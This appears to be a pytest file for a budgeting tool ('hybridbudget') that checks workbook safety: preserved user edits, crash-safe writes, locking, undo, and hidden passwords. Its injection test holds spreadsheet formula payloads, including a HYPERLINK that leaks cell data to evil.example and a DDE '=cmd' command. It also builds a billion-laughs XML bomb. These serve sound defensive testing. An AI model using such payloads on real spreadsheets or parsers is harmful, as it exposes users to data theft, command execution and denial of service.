"""Issue 9: nothing lost, nothing half-written, nothing injected."""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import PatternFill

from conftest import CLI, needs_libreoffice
from hybridbudget.control import store
from hybridbudget.control.load import load_control
from hybridbudget.errors import HybridBudgetError
from hybridbudget.sample.fill import fill_submissions
from hybridbudget.sample.workshop import run_workshop
from hybridbudget.steps.consolidate import consolidate
from hybridbudget.steps.plan import apply_decisions, lock
from hybridbudget.steps.templates import generate_templates
from hybridbudget.steps.validate import validate, write_findings
from hybridbudget.workbook.libreoffice import convert
from hybridbudget.workbook.package import _Package
from hybridbudget.workbook.spec import Sheet

VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
XLSM_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def add_extras(control: Path, out: Path) -> None:
    """What finance adds in Excel: a sheet with a chart, a comment, a conditional format."""
    wb = openpyxl.load_workbook(control)
    ws = wb.create_sheet("My Analysis")
    ws.append(["Region", "Beds"])
    for row in (("North", 120), ("South", 90), ("East", 60)):
        ws.append(row)
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=4), titles_from_data=True)
    ws.add_chart(chart, "D2")
    ws["A1"].comment = Comment("ask the CFO", "finance")
    red = PatternFill("solid", fgColor="FFC7CE")
    ws.conditional_formatting.add(
        "B2:B4", CellIsRule(operator="greaterThan", formula=["100"], fill=red)
    )
    wb["Guardrails"]["H2"] = "note kept by finance"
    wb.save(out)


def make_xlsm(xlsx: Path, xlsm: Path) -> bytes:
    """The same workbook as a macro-enabled one carrying a VBA project part."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(2048)
    pkg = _Package.read(xlsx)
    wb_part = pkg.workbook_part()
    ct = pkg.parts["[Content_Types].xml"].decode()
    ct = ct.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", XLSM_CT
    ).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    pkg.parts["[Content_Types].xml"] = ct.encode()
    rels_name = "xl/_rels/" + Path(wb_part).name + ".rels"
    rels = (
        pkg.parts[rels_name]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rIdVba" Type="{VBA_REL}" Target="vbaProject.bin"/></Relationships>',
        )
    )
    pkg.parts[rels_name] = rels.encode()
    pkg.parts["xl/vbaProject.bin"] = vba
    pkg.write(xlsm)
    return vba


@needs_libreoffice
@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
def test_every_step_keeps_what_finance_added(tmp_path, control_path, templates_dir, suffix):
    with_extras = tmp_path / "extras.xlsx"
    add_extras(control_path, with_extras)
    saved = convert([with_extras], "xlsx", tmp_path / "lo")[0]  # saved by another application
    control = tmp_path / f"control{suffix}"
    vba = make_xlsm(saved, control) if suffix == ".xlsm" else None
    if vba is None:
        shutil.copyfile(saved, control)
    before = parts(control)
    user_sheet = _Package.read(control).sheets()["My Analysis"]
    subs = tmp_path / "subs"
    fill_submissions(templates_dir, subs, seed=5, control=control)
    generate_templates(control, tmp_path / "templates")
    validate(control, subs)
    consolidate(control, subs)
    run_workshop(control)
    apply_decisions(control)
    lock(control, force_reason="test")
    after = parts(control)
    kept = [
        n for n in before if "chart" in n or "drawing" in n or "comment" in n or n.endswith(".vml")
    ]
    assert any("chart" in n for n in kept)
    for name in [*kept, user_sheet]:
        assert after.get(name) == before[name], name
    if vba is not None:
        assert after["xl/vbaProject.bin"] == vba
        assert XLSM_CT.encode() in after["[Content_Types].xml"]
    wb = openpyxl.load_workbook(control)
    assert wb["Guardrails"]["H2"].value == "note kept by finance"
    assert len(wb["My Analysis"]._charts) == 1 and wb["My Analysis"]["A1"].comment is not None
    assert "Locked Plan v1" in wb.sheetnames
    wb.close()
    assert convert([control], "xlsx", tmp_path / "check")[0].is_file()  # LibreOffice opens it
    load_control(control)


KILL_SCRIPT = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    import hybridbudget.workbook.package as pkg
    from hybridbudget.control.store import update_control
    from hybridbudget.workbook.spec import Sheet

    def slow_write(self, path):
        import zipfile
        from hybridbudget.workbook.fileio import atomic_save
        def save(tmp):
            with zipfile.ZipFile(tmp, "w") as z:
                for i, (name, data) in enumerate(self.parts.items()):
                    z.writestr(name, data)
                    if i == 3:
                        print("writing", flush=True)
                        time.sleep(60)
        atomic_save(path, save)

    pkg._Package.write = slow_write
    update_control(Path(sys.argv[1]), [Sheet("Scratch", "scratch", ())], "test")
    """
)


def test_a_step_killed_mid_write_leaves_the_previous_workbook_intact(tmp_path, control_copy):
    digest = hashlib.sha256(control_copy.read_bytes()).hexdigest()
    proc = subprocess.Popen(
        [sys.executable, "-c", KILL_SCRIPT, str(control_copy)], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout.readline().strip() == "writing"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert hashlib.sha256(control_copy.read_bytes()).hexdigest() == digest
    load_control(control_copy)  # loadable
    assert store.lock_path(control_copy).exists()  # the killed run's lock is left behind ...
    store.update_control(control_copy, [], "after the crash")  # ... and recognised as stale
    assert not store.lock_path(control_copy).exists()


def test_a_second_run_waits_then_refuses(control_copy, monkeypatch):
    holder = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(f"""
            import time
            from pathlib import Path
            from hybridbudget.control.store import control_lock
            with control_lock(Path({str(control_copy)!r})):
                print("held", flush=True)
                time.sleep(30)
        """)],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout.readline().strip() == "held"
        monkeypatch.setattr(store, "LOCK_WAIT_SECONDS", 0.5)
        started = time.monotonic()
        with pytest.raises(HybridBudgetError, match="another hybridbudget step is updating"):
            store.update_control(control_copy, [], "second")
        assert time.monotonic() - started >= 0.5
    finally:
        holder.kill()
        holder.wait()


def test_a_workbook_open_in_excel_is_reported_not_overwritten(control_copy, tmp_path):
    owner = control_copy.with_name("~$" + control_copy.name)
    owner.write_bytes(b"excel owner file")
    digest = hashlib.sha256(control_copy.read_bytes()).hexdigest()
    with pytest.raises(HybridBudgetError, match="open in Excel"):
        validate(control_copy, tmp_path)
    assert hashlib.sha256(control_copy.read_bytes()).hexdigest() == digest


def test_undo_restores_the_previous_version(control_copy, tmp_path):
    first = hashlib.sha256(control_copy.read_bytes()).hexdigest()
    store.update_control(control_copy, [Sheet("Scratch", "scratch", ())], "test")
    assert hashlib.sha256(control_copy.read_bytes()).hexdigest() != first
    store.undo(control_copy)
    assert hashlib.sha256(control_copy.read_bytes()).hexdigest() == first


PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1+1)",
)


def _set(wb, name: str, value: object, i: int = 0) -> None:
    sheet, ref = next(iter(wb.defined_names[name].destinations))
    cells = [c for row in wb[sheet][ref.replace("$", "")] for c in (row if isinstance(row, tuple) else (row,))] \
        if ":" in ref else [wb[sheet][ref.replace("$", "")]]  # fmt: skip
    cells[i].value = value
    if isinstance(value, str):
        cells[i].data_type = "s"  # typed as text, as a manager would after an apostrophe


def test_text_from_managers_and_extracts_is_written_as_text(tmp_path, templates_dir, sample_copy):
    # extracts and sources: a cost center name and an account name that look like formulas
    cc_csv = sample_copy / "organization/cost_centers.csv"
    cc_csv.write_text(
        cc_csv.read_text().replace("4 West Medical/Surgical", PAYLOADS[1].replace(",", " "), 1)
    )
    acc_csv = sample_copy / "finance/account_map.csv"
    lines = acc_csv.read_text().splitlines()
    parts_ = lines[1].split(",")
    parts_[1] = PAYLOADS[4]
    lines[1] = ",".join(parts_)
    acc_csv.write_text("\n".join(lines) + "\n")
    from hybridbudget.steps.init import init_control

    control = tmp_path / "control.xlsx"
    init_control(sample_copy, control)
    # submissions: rationale, capital item and justification typed by managers
    tdir = tmp_path / "templates"
    generate_templates(control, tdir)
    subs = tmp_path / "subs"
    fill_submissions(tdir, subs, seed=3, control=control)
    target = next(subs.rglob("RMC-03100*.xlsx"))
    wb = openpyxl.load_workbook(target)
    _set(wb, "hb_rationale_volume", PAYLOADS[0])
    _set(wb, "hb_capital_item", PAYLOADS[2])
    _set(wb, "hb_capital_amount", 50000)
    _set(wb, "hb_capital_priority", "High")
    _set(wb, "hb_capital_category", "Patient safety")
    _set(wb, "hb_capital_life", 60)
    _set(wb, "hb_capital_justification", PAYLOADS[3])
    wb.save(target)
    result = consolidate(control, subs)
    assert "RMC-03100" in result.bottom_up
    from hybridbudget.steps.divergence import divergence

    divergence(control)
    wb = openpyxl.load_workbook(control)  # formulas as written (not data_only)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in PAYLOADS:
                    found.setdefault(cell.value, []).append((ws.title, cell.data_type))
    for payload in (PAYLOADS[0], PAYLOADS[2], PAYLOADS[3], PAYLOADS[4]):
        assert payload in found, payload
    assert all(kind == "s" for cells in found.values() for _, kind in cells), found
    renamed = PAYLOADS[1].replace(",", " ")
    assert renamed in found or any(renamed in v for v in found), "cost center name not written"
    # CSV export of findings: a leading apostrophe keeps spreadsheets from evaluating them
    from hybridbudget.findings import Finding, Severity
    from hybridbudget.steps.validate import ValidationResult

    res = ValidationResult(
        subs,
        [Finding(code="X", severity=Severity.ERROR, message=PAYLOADS[1], value=PAYLOADS[0])],
        [],
    )
    out = write_findings(res, tmp_path / "findings.csv")
    text = out.read_text()
    assert "'=cmd" in text and "'=HYPERLINK" in text


def test_an_xml_entity_bomb_is_a_finding_not_a_hang(tmp_path, templates_dir, control_copy):
    src = next((templates_dir / "RMC").glob("*.xlsx"))
    folder = tmp_path / "in"
    folder.mkdir()
    bomb = folder / "bomb.xlsx"
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{"&lol" + str(i - 1) + ";" if i > 1 else "&lol;"}' * 10 + '">'
            for i in range(1, 10)
        )
        + "]>"
    )
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(bomb, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/workbook.xml":
                data = laughs.encode() + data.split(b"?>", 1)[-1]
            zout.writestr(item, data)
    started = time.monotonic()
    result = validate(control_copy, folder, write_sheet=False)
    assert time.monotonic() - started < 30
    assert [f.code for f in result.findings] == ["CORRUPT"]


def test_the_template_password_is_never_printed(tmp_path, control_copy, templates_dir):
    ref, _ = load_control(control_copy)
    password = ref.config.templates.password
    assert password not in repr(ref.config) and password not in str(ref.config.templates)
    cmd = CLI
    run = subprocess.run(
        [*cmd, "--debug", "templates", "--control", str(control_copy), "--out", str(tmp_path / "t")],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert password not in run.stdout + run.stderr
    for f in (tmp_path / "t").rglob("*.xlsx"):
        for name, data in parts(f).items():
            assert password.encode() not in data, name
